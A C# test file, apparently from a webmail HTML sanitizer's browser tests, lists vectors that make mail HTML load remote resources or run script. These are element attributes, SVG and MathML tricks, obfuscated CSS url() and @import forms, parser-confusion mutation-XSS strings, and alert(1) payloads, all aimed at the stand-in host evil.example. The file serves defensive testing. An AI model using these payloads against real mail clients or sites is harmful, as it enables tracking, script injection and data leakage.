namespace Webmail.Html.Tests.Browser;

/// <summary>Ways a mail can make a browser load or run something, written out from kinds of element, attribute and CSS (docs/html.md has the list).</summary>
internal static class LoadVectors
{
    private const string Url = "http://evil.example/x";

    private static readonly string[] Elements =
    [
        "<img src='{0}'>", "<img srcset='{0} 1x, {0} 2x'>", "<img lowsrc='{0}' dynsrc='{0}' longdesc='{0}'>", "<picture><source srcset='{0}'><img></picture>",
        "<image src='{0}'>", "<input type=image src='{0}'>", "<body background='{0}'>", "<table background='{0}'><tr><td>x</table>",
        "<table><tr background='{0}'><td>x</table>", "<table><tr><td background='{0}'>x</table>", "<table><tr><th background='{0}'>x</table>", "<video src='{0}' autoplay></video>",
        "<video poster='{0}'></video>", "<audio src='{0}' autoplay></audio>", "<video autoplay><source src='{0}'></video>", "<video><track default src='{0}'></video>",
        "<embed src='{0}'>", "<embed code='{0}'>", "<object data='{0}'></object>", "<object codebase='{0}' classid='{0}'></object>",
        "<object><param name=movie value='{0}'><param name=URL value='{0}'></object>", "<applet codebase='{0}' archive='{0}' object='{0}'></applet>",
        "<iframe src='{0}'></iframe>", "<frameset><frame src='{0}'></frameset>", "<portal src='{0}'></portal>", "<fencedframe src='{0}'></fencedframe>", "<iframe srcdoc='<img src={0}>'></iframe>",
        "<script src='{0}'></script>", "<script type=module src='{0}'></script>", "<a href='#' ping='{0}'>x</a>", "<area ping='{0}'>", "<form action='{0}'><input autofocus></form>",
        "<button formaction='{0}'>x</button>", "<bgsound src='{0}'>", "<menuitem icon='{0}'>", "<isindex action='{0}'>", "<html manifest='{0}'>", "<base href='{0}'><img src=y>",
        "<blockquote cite='{0}'>x</blockquote>", "<q cite='{0}'>x</q>", "<link rel=stylesheet href='{0}'>", "<link rel=icon href='{0}'>", "<link rel=preload as=image href='{0}'>",
        "<link rel=preload as=image imagesrcset='{0} 1x'>", "<link rel=prefetch href='{0}'>", "<link rel=dns-prefetch href='//evil.example'>", "<link rel=preconnect href='{0}'>",
        "<link rel=prerender href='{0}'>", "<link rel=manifest href='{0}'>", "<link rel=search href='{0}'>", "<link rel='alternate stylesheet' href='{0}'>", "<link rel=import href='{0}'>",
        "<link rel=modulepreload href='{0}'>", "<link rel=pingback href='{0}'>", "<meta http-equiv=refresh content='0;url={0}'>", "<meta http-equiv=Content-Security-Policy content=\"img-src 'none';report-uri {0}\"><img src=data:x>",
        "<meta name=msapplication-TileImage content='{0}'>", "<!DOCTYPE html SYSTEM '{0}'>", "<?xml-stylesheet href='{0}'?>", "<?import namespace='t' implementation='{0}'?>",
        "<!--[if gte IE 4]><img src='{0}'><![endif]-->", "<iframe src='data:text/html,<img src={0}>'></iframe>", "<img src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"{0}\"/></svg>'>",
        "<iframe src='view-source:{0}'></iframe>", "<svg><image href='{0}'/></svg>", "<svg><image xlink:href='{0}'/></svg>", "<svg><use href='{0}#a'/></svg>",
        "<svg><filter id=f><feImage href='{0}'/></filter><rect filter='url(#f)' width=9 height=9 /></svg>", "<svg><script href='{0}'></script></svg>",
        "<svg><font-face-uri href='{0}'/></svg>", "<svg><a xlink:href='{0}'><text>x</text></a></svg>", "<svg><foreignObject><img src='{0}'></foreignObject></svg>",
        "<svg><set attributeName=href to='{0}'/></svg>", "<svg><image><animate attributeName=href values='{0}'/></image></svg>", "<svg><image><set attributeName=' HREF ' to='{0}'/></image></svg>",
        "<svg><image><animate attributeName=xlink:href from='{0}' to='{0}' by='{0}'/></image></svg>", "<svg><rect><animate attributeName=style to='fill:url({0})'/></rect></svg>",
        "<svg><style>*{{background:url({0})}}</style></svg>", "<math href='{0}'><mi>x</mi></math>", "<math><mtext><img src='{0}'></mtext></math>", "<math xlink:href='{0}'><mglyph src='{0}'></math>",
        "<v:rect src='{0}' o:href='{0}' style='behavior:url(#default#VML)'>", "<xml id=i><x><c><![CDATA[<img src='{0}'>]]></c></x></xml>", "<noscript><img src='{0}'></noscript>",
        "<template><img src='{0}'></template>", "<select><option><img src='{0}'></select>", "<textarea><img src='{0}'></textarea></textarea><img src='{0}'>",
        "<title><img src='{0}'></title>", "<noembed><img src='{0}'></noembed>", "<plaintext><img src='{0}'>", "<details open ontoggle=\"new Image().src='{0}'\">x</details>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src={0}&gt;'>", "<form><math><mtext></form><form><mglyph><style></math><img src='{0}'>",
        "<svg></p><style><a id='</style><img src={0}>'>", "<noscript><p title='</noscript><img src={0}>'>", "<xmp><p title='</xmp><img src={0}>'>",
    ];

    private static readonly string[] SvgPaint = ["fill", "stroke", "filter", "mask", "clip-path", "marker-start", "marker-mid", "marker-end", "cursor"];

    private static readonly string[] UrlProperties =
    [
        "background", "background-image", "list-style", "list-style-image", "border-image", "border-image-source", "content", "cursor", "filter", "mask", "mask-image",
        "clip-path", "shape-outside", "offset-path", "-webkit-mask-image", "-webkit-border-image", "-webkit-box-reflect", "behavior", "-moz-binding",
    ];

    private static readonly string[] UrlForms =
    [
        "url({0})", "url('{0}')", "url( \"{0}\" )", "URL({0})", "\\75\\72\\6c({0})", "\\000075rl({0})", "u\\72\tl({0})", "u\\72\r\nl({0})", "url/**/({0})", "image-set('{0}' 1x)",
        "-webkit-image-set(url({0}) 1x)", "image('{0}')", "src('{0}')", "cross-fade(url({0}),url({0}),50%)", "element(#x)", "var(--x,url({0}))", "attr(title url)",
        "url({0}) !important", "url('{0}'", "red url({0}) no-repeat", "linear-gradient(red,red),url({0})",
    ];

    private static readonly string[] Sheets =
    [
        "@import '{0}';", "@import url({0});", "@im\\70ort '{0}';", "@IMPORT url('{0}') screen;", "@charset 'x';@import '{0}';", "@font-face{{font-family:x;src:url({0})}} *{{font-family:x}}",
        "@namespace x url({0});", "@media all{{@import '{0}';}}", "@supports (color:red){{*{{background:url({0})}}}}", "@layer x{{*{{background:url({0})}}}}", "@container (width>0){{*{{background:url({0})}}}}",
        "@page{{background:url({0})}}", "@keyframes x{{from{{background:url({0})}}}} *{{animation:x 1s}}", "@property --x{{syntax:'<url>';inherits:true;initial-value:url({0})}} *{{background:var(--x)}}",
        ":root{{--x:url({0})}} *{{background:var(--x)}}", "*{{background:url({0})", "*{{background:url({0}", "*{{color:red;}}}}*{{background:url({0})}}", "*{{{{}}*{{background:url({0})}}", "a[title='x']{{}}*{{background:url({0})}}",
        "</style><img src='{0}'><style>", "<!-- *{{background:url({0})}} -->", "*{{background/**/:/**/url({0})}}", "*{{\\62 ackground:url({0})}}", "*{{& p{{background:url({0})}}}} p{{color:red}}", "p::before{{content:url({0})}}",
        "p::marker{{content:url({0})}}", "*{{width:expression(new Image().src='{0}')}}", "/*# sourceMappingURL={0} */", "*{{background:url({0}) ;color:red}}", "input[value^=a]{{background:url({0})}}",
    ];

    private static readonly string[] Scripts =
    [
        "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<body onload=alert(1)>", "<script>alert(1)</script>", "<iframe srcdoc='<script>parent.alert(1)</script>'>", "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
        "<iframe src='javascript:parent.alert(1)'>", "<details open ontoggle=alert(1)>x</details>", "<video onerror=alert(1)><source></video>", "<marquee onstart=alert(1)>x</marquee>", "<style onload=alert(1)></style>",
        "<object data='javascript:alert(1)'></object>", "<embed src='javascript:alert(1)'>", "<svg><script>alert(1)</script></svg>", "<math><style><img src=x onerror=alert(1)></style></math>", "<input autofocus onfocus=alert(1)>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>", "<form><button formaction=javascript:alert(1) autofocus onfocus=alert(1)>x</form>", "<style>@keyframes x{}</style><p style='animation:x 1s' onanimationstart=alert(1)>x",
        "<div popover id=x onbeforetoggle=alert(1)>x</div><button popovertarget=x>y</button>", "<template shadowrootmode=open><script>alert(1)</script></template>", "<p title='&lt;/p&gt;&lt;script&gt;alert(1)&lt;/script&gt;'>x",
    ];

    /// <summary>Each vector as a document of its own.</summary>
    public static IReadOnlyList<string> All { get; } =
    [
        .. Elements.Select(Fill),
        .. SvgPaint.SelectMany(name => (string[])[Fill($"<svg><rect width=9 height=9 {name}='url({{0}}#a)'/></svg>"), Fill($"<svg><rect width=9 height=9 {name}='url({{0}}'/></svg>")]),
        .. UrlProperties.Select(name => Fill($"<p style=\"{name}:url({{0}})\">x</p>")),
        .. UrlForms.SelectMany(form => (string[])[Fill($"<p style=\"background:{form.Replace("\"", "&quot;", StringComparison.Ordinal)}\">x</p>"), Fill($"<style>p{{{{background-image:{form}}}}}</style><p>x</p>")]),
        .. Sheets.Select(sheet => Fill($"<style>{sheet}</style><p title=x>x</p>")),
        .. Scripts,
    ];

    private static string Fill(string pattern) => string.Format(System.Globalization.CultureInfo.InvariantCulture, pattern, Url);
}
